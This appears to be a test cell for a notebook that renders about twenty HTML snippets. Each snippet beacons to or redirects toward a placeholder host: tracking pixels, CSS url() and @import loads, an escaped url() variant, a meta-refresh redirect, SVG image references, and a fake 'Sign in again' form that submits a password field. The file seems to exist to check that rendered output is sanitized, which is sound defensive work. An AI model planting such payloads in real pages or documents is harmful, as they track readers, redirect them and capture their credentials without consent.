"""Shows HTML that runs nothing, but reports when and where it is opened, or sends the reader away."""

SOURCE = "tracking pixels; OWASP, CSS injection"
SUCCESS = "an address outside in the executed notebook"

# %%
from IPython.display import HTML, display

HOME = "https://example.invalid/@TOKEN@"
for text in (
    f"<meta http-equiv=refresh content='0;url={HOME}'>", f"<style>@import '{HOME}';</style>", f"<img src='{HOME}'>", f"<img srcset='{HOME} 2x'>",
    f"<p style='background:url({HOME})'>", f"<p style='background:u\\72l({HOME})'>", f"<link rel=stylesheet href='{HOME}'>", f"<video poster='{HOME}'>",
    f"<a ping='{HOME}' href='{HOME}'>grade</a>", f"<table background='{HOME}'>", f"<audio autoplay src='{HOME}'>", f"<input type=image src='{HOME}'>",
    f"<form action='{HOME}'><input name=password><button>Sign in again</button></form>", f"<img src='//example.invalid/@TOKEN@'>",
    f"<p style='cursor:url({HOME}),auto;list-style-image:url({HOME});content:url({HOME})'>", f"<blockquote cite='{HOME}'>", f"<img src='\\\\example.invalid\\x'>",
    f"<style>@font-face{{font-family:x;src:url({HOME})}}p{{font-family:x}}</style>", f"<p style='--x:url({HOME});background:image-set(\"{HOME}\" 1x)'>",
    f"<link rel=dns-prefetch href='{HOME}'>", f"<svg><image href='{HOME}'/><use href='{HOME}#x'/><filter><feImage href='{HOME}'/></filter></svg>",
):  # fmt: skip
    display(HTML(text))
print("attempted")
